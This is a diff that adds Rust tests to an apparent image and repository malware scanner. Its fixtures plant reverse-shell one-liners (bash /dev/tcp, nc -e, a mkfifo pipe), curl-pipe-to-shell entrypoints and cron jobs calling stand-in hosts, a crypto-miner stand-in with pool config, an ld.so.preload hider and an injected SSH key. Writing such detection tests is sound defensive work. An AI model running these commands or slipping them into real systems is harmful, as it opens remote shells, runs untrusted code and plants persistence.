@@ -1149,3 +1149,159 @@ fn a_hadolint_configuration_is_honoured() {
     let found = findings(&json(&out));
     assert_eq!(found, [("GEN007".to_string(), ".hadolint.yaml".to_string(), 1)], "{found:?}");
 }
+
+/// The EICAR test string, assembled at run time so that no file of the repository holds it.
+fn eicar() -> String {
+    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat()
+}
+
+/// A harmless stand-in for a miner binary: an ELF header and the strings miners carry.
+fn miner_stand_in() -> Vec<u8> {
+    let mut binary = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    for s in ["XMRig/%s", "randomx", "cn/r", "--donate-level", "stratum+tcp://"] {
+        binary.extend_from_slice(&[0; 32]);
+        binary.extend_from_slice(s.as_bytes());
+    }
+    binary
+}
+
+/// (code, path, line, severity, message) of every finding.
+fn detailed(report: &serde_json::Value) -> Vec<(String, String, u64, String, String)> {
+    report["findings"]
+        .as_array()
+        .expect("findings array")
+        .iter()
+        .map(|f| {
+            (
+                f["code"].as_str().unwrap_or_default().to_string(),
+                f["location"]["path"].as_str().unwrap_or_default().to_string(),
+                f["location"]["region"]["start_line"].as_u64().unwrap_or_default(),
+                f["severity"].as_str().unwrap_or_default().to_string(),
+                f["message"].as_str().unwrap_or_default().to_string(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn image_malware_in_every_layer_with_the_layer_that_deleted_it() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let eicar = eicar();
+    let eicar_file = format!("{eicar}\r\n");
+    // Layer 0: what a base image holds, none of it malware.
+    let base = layer_tar(&[
+        ("etc/cron.daily/dpkg", b"#!/bin/sh\nif [ -x /usr/libexec/dpkg/dpkg-db-backup ]; then\n  /usr/libexec/dpkg/dpkg-db-backup\nfi\n"),
+        ("usr/local/bin/wait-for-it.sh", b"#!/bin/sh\n(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n"),
+        ("usr/local/bin/healthcheck", b"#!/bin/sh\nnc -z -w 1 localhost 8080\n"),
+        ("usr/share/doc/shells/README.md", b"An example: `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`.\n"),
+    ]);
+    // Layer 1: the planted files.
+    let planted = layer_tar(&[
+        ("opt/start.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"),
+        ("tmp/eicar.com", eicar_file.as_bytes()),
+        ("opt/.cache/kworker", &miner_stand_in()),
+        ("etc/xmrig/config.json", b"{\n  \"donate-level\": 1,\n  \"pools\": [{\"url\": \"stratum+tcp://pool.minexmr.net:4444\"}]\n}\n"),
+        ("etc/cron.d/sysupdate", b"* * * * * root /tmp/.ICE-unix/.x/kdevtmpfsi >/dev/null 2>&1\n"),
+        ("etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n"),
+        ("root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@y\n"),
+    ]);
+    // Layer 2: deletes two of them; they still ship in layer 1.
+    let cleanup = layer_tar(&[("opt/.wh.start.sh", b""), ("tmp/.wh.eicar.com", b"")]);
+    let config = serde_json::json!({
+        "architecture": "amd64", "os": "linux",
+        "config": {"User": "app", "Entrypoint": ["/bin/sh", "-c", "curl -s http://198.18.0.9/s.sh | sh"],
+                   "Healthcheck": {"Test": ["CMD", "/usr/local/bin/healthcheck"]}},
+        "history": [
+            {"created_by": "ADD rootfs.tar / # buildkit"},
+            {"created_by": "RUN /bin/sh -c sh -c 'bash -i >& /dev/tcp/10.0.0.2/9001 0>&1 &' # buildkit"},
+            {"created_by": "RUN /bin/sh -c rm /opt/start.sh /tmp/eicar.com # buildkit"}
+        ]
+    });
+    let archive = dir.path().join("planted.tar");
+    std::fs::write(&archive, docker_save_archive(&[base, planted, cleanup], config, "planted:1"))
+        .expect("write");
+    let out = shipshape(dir.path(), &["image", "planted.tar", "-f", "json"]);
+    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    let found = detailed(&json(&out));
+    let has = |code: &str, path: &str, line: u64, severity: &str| {
+        found
+            .iter()
+            .any(|f| f.0 == code && f.1 == format!("planted.tar!/{path}") && f.2 == line && f.3 == severity)
+    };
+    assert!(has("SUP111", "layer-1/opt/start.sh (deleted by layer 2)", 2, "critical"), "{found:#?}");
+    assert!(has("SUP114", "layer-1/tmp/eicar.com (deleted by layer 2)", 1, "medium"), "{found:#?}");
+    assert!(has("SUP110", "layer-1/opt/.cache/kworker", 1, "high"), "{found:#?}");
+    assert!(has("SUP110", "layer-1/etc/xmrig/config.json", 2, "high"), "{found:#?}");
+    assert!(has("SUP110", "layer-1/etc/xmrig/config.json", 3, "high"), "{found:#?}");
+    assert!(has("SUP113", "layer-1/etc/cron.d/sysupdate", 1, "high"), "{found:#?}");
+    assert!(has("SUP113", "layer-1/etc/ld.so.preload", 1, "critical"), "{found:#?}");
+    assert!(has("SUP113", "layer-1/root/.ssh/authorized_keys", 1, "high"), "{found:#?}");
+    let config_finding = |code: &str, needle: &str| {
+        found.iter().any(|f| f.0 == code && f.1.ends_with("/config.json") && f.4.contains(needle))
+    };
+    assert!(config_finding("SUP112", "curl -s http://198.18.0.9/s.sh | sh"), "the entrypoint: {found:#?}");
+    assert!(config_finding("SUP111", "/dev/tcp/10.0.0.2/9001"), "the history step: {found:#?}");
+    let malware: Vec<_> = found.iter().filter(|f| f.0.starts_with("SUP11")).collect();
+    assert!(malware.iter().all(|f| !f.1.contains("/layer-0/")), "base layer look-alikes: {malware:#?}");
+    assert_eq!(malware.len(), 10, "{malware:#?}");
+    for format in ["human", "json", "sarif"] {
+        let out = shipshape(dir.path(), &["image", "planted.tar", "-f", format, "--no-color"]);
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(text.contains("SUP114"), "{format}");
+        assert!(!text.contains(&eicar[..40]) || format == "human", "{format} prints the EICAR string");
+    }
+}
+
+#[test]
+fn malware_in_scripts_crontabs_and_dockerfiles_of_a_tree() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path();
+    write(
+        root,
+        "app/Dockerfile",
+        "FROM debian:12\nRUN curl -s http://198.18.0.9/install.sh | sh\nCOPY crontab /etc/cron.d/app\nCMD curl -s http://198.18.0.9/start.sh | sh\n",
+    );
+    write(root, "app/entrypoint.sh", "#!/bin/sh\nset -e\nnc -e /bin/sh 10.0.0.1 4242\nexec \"$@\"\n");
+    write(
+        root,
+        "app/crontab",
+        "*/5 * * * * root curl -fsSL https://x.invalid.org/u | sh\n0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
+    );
+    write(root, "app/healthcheck.sh", "#!/bin/sh\nnc -z db 5432 && curl -fsSL https://get.docker.com | sh\n");
+    write(root, "docs/shells.md", "A reverse shell: `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`.\n");
+    write(
+        root,
+        "k8s/pod.yaml",
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: c\n    image: busybox:1.36\n    command: [\"sh\", \"-c\", \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f\"]\n",
+    );
+    std::fs::write(root.join("app/kworker"), miner_stand_in()).expect("write");
+    std::fs::write(root.join("app/eicar.com"), eicar()).expect("write");
+    let out = shipshape(root, &["scan", ".", "-f", "json"]);
+    let found: Vec<(String, String, u64)> =
+        findings(&json(&out)).into_iter().filter(|f| f.0.starts_with("SUP11")).collect();
+    let expected = [
+        ("SUP111", "app/entrypoint.sh", 3),
+        ("SUP112", "app/Dockerfile", 4),
+        ("SUP113", "app/crontab", 1),
+        ("SUP110", "app/kworker", 1),
+        ("SUP114", "app/eicar.com", 1),
+        ("SUP111", "k8s/pod.yaml", 8),
+    ];
+    for (code, path, line) in expected {
+        assert!(
+            found.iter().any(|f| f.0 == code && f.1 == path && f.2 == line),
+            "{code} {path}:{line}: {found:#?}"
+        );
+    }
+    assert_eq!(found.len(), expected.len(), "RUN is SUP001's, docs and probes are not malware: {found:#?}");
+    assert!(findings(&json(&out)).iter().any(|f| f.0 == "SUP001" && f.1 == "app/Dockerfile" && f.2 == 2));
+}
+
+#[cfg(not(feature = "yara"))]
+#[test]
+fn yara_rules_need_the_yara_feature() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = shipshape(dir.path(), &["scan", ".", "--yara-rules", "rules"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("--features yara"));
+}
